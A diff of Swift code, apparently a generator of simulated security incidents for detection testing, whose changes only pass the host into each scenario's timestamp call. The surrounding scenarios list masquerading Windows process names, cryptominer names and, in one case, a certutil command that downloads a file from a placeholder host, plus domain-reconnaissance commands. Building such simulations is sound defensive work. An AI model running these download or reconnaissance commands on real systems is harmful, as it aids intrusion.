@@ -7,7 +7,7 @@ enum OddWindowsProcess: CaseStudy {
 
   static func play(on stage: inout Stage) {
     let host = stage.victim(.windowsServer, .fileServer, .laptop)
-    let start = stage.moment()
+    let start = stage.moment(on: host)
     let name = stage.random.pick(["psexesvc.exe", "winupdsvc.exe", "csrsss.exe", "rclonew.exe"])
     let program = Program(
       name, in: #"C:\Windows\"#, from: WindowsPrograms.system32, by: WindowsPrograms.services, as: .system,
@@ -29,7 +29,7 @@ enum Miner: CaseStudy {
 
   static func play(on stage: inout Stage) {
     let host = stage.victim(.linuxWeb, .linuxCloud)
-    let start = stage.moment()
+    let start = stage.moment(on: host)
     let name = stage.random.pick(["kdevtmpfsi", "kinsing", "xmrigd"])
     let program = Program(
       name, in: "/tmp/", from: "/tmp", by: LinuxPrograms.shell, as: .service("www-data"), on: [], .always(0))
@@ -51,7 +51,7 @@ enum BorrowedTool: CaseStudy {
 
   static func play(on stage: inout Stage) {
     let host = stage.victim(.domainController)
-    let start = stage.moment()
+    let start = stage.moment(on: host)
     let (name, arguments) = stage.random.pick([
       ("certutil.exe", "-urlcache -split -f https://files.brightharbor.example/<word>.bin"),
       ("nltest.exe", "/domain_trusts"), ("net.exe", "group /domain"),
@@ -75,7 +75,7 @@ enum LinuxNewcomer: CaseStudy {
 
   static func play(on stage: inout Stage) {
     let host = stage.victim(.linuxDatabase, .linuxWeb)
-    let start = stage.moment()
+    let start = stage.moment(on: host)
     let endpoint = stage.usualEndpoint()
     let talker = Talker("gawk", in: "/usr/bin/", as: .system)
     for index in 0..<5 {
